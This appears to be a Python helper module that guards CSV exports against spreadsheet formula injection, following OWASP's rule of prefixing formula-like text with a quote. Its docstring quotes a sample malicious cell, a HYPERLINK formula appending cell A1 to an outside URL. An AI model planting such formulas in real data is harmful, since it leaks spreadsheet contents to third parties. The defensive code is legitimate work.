"""The one rule for every CSV ClassMood writes: text that a spreadsheet would run as a formula is neutralised.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and tab or carriage
return can hide such a start. A student who joins as ``=HYPERLINK("http://…"&A1,"click")`` would otherwise
have the teacher's spreadsheet run their formula on opening the export. OWASP's rule ("CSV injection"): such a
cell gets a leading single quote, which spreadsheets show as text and never evaluate.

Only *text* is neutralised (names, file names, labels: anything a person may have typed). Numbers ClassMood
writes itself (ids, times, probabilities, box coordinates) stay numbers: Python writes them as digits with
an optional sign, point and exponent, which a spreadsheet reads as a number, never as a formula, and quoting
them would turn a numeric column into text (a negative box coordinate, ``-3.5``, stays ``-3.5``).

>>> safe_cell('=HYPERLINK("http://x")'), safe_cell("-2+3"), safe_cell("Ann"), safe_cell(-3.5)
('\\'=HYPERLINK("http://x")', "'-2+3", 'Ann', -3.5)
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any, TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
K = TypeVar("K")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text starting like a formula; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row of cells for ``csv.writer``, each through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]


def safe_record(record: Mapping[K, Any]) -> dict[K, Any]:
    """A row for ``csv.DictWriter``, each value through :func:`safe_cell`."""
    return {key: safe_cell(value) for key, value in record.items()}
